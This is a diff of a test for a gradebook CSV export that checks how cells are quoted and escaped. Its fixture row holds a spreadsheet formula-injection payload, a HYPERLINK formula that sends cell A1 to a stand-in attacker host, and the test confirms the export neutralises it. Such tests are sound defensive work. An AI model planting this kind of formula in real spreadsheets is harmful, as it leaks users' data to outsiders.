@@ -27,6 +27,6 @@ describe("the gradebook CSV", () => {
   });
 
   it("keeps each id one cell, its own quotes doubled, so the rest of the row stays in its columns", () => {
-    expect(rows[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""grades"")",,,20,,failed,`);
+    expect(rows[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""grades"")",,,,20,,failed,,,unreadable,`);
   });
 });
